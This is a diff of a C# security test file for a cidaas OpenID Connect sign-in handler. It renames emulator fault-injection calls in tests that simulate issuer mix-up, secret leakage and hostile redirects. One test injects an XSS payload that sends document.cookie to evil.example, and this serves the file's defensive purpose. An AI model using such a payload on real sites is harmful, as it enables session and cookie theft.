@@ -122,7 +122,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Authorization_response_of_another_issuer_delivered_to_a_scheme_is_refused_as_a_mix_up_before_any_code_exchange()
     {
-        await using var otherIdp = CidaasEmulator.Create(TestClients.CreateEmulatorOptions("https://other-idp.test"));
+        await using var otherIdp = await CidaasEmulator.CreateAsync(TestClients.CreateEmulatorOptions("https://other-idp.test"));
         await StartAppAsync(configureAuthentication: a => a.AddCidaas("CidaasB", o =>
         {
             o.Authority = otherIdp.Authority;
@@ -404,7 +404,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     {
         await StartAppAsync();
         var callback = await AuthorizeAsync(await ChallengeAsync());
-        Emulator.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
+        Emulator.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
             400, """{"error":"invalid_grant","error_description":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}""", "application/json"));
 
         var response = await Browser.GetAsync(callback.ToString());
@@ -501,7 +501,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         var callback = await AuthorizeAsync(await ChallengeAsync());
         var code = CallbackUrl.Parameter(callback, "code");
         var echo = $"client_secret '{TestClients.ClientSecret}' is wrong for code {code}";
-        Emulator.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
+        Emulator.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
             401, $$"""{"error":"invalid_client {{code}}","error_description":{{System.Text.Json.JsonSerializer.Serialize(echo)}}}""", "application/json"));
 
         var response = await Browser.GetAsync(callback.ToString());
@@ -531,7 +531,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         Browser.Register(cidaas.Authority, cidaas.CreateHandler());
         var challenge = await Browser.GetAsync(Origin + "/protected");
         var callback = await AuthorizeAsync(challenge.Headers.Location!);
-        cidaas.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(status, "", headers: new Dictionary<string, string> { ["Location"] = cidaas.Authority + "/steal" }));
+        cidaas.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(status, "", headers: new Dictionary<string, string> { ["Location"] = cidaas.Authority + "/steal" }));
 
         var response = await Browser.GetAsync(callback.ToString());
 
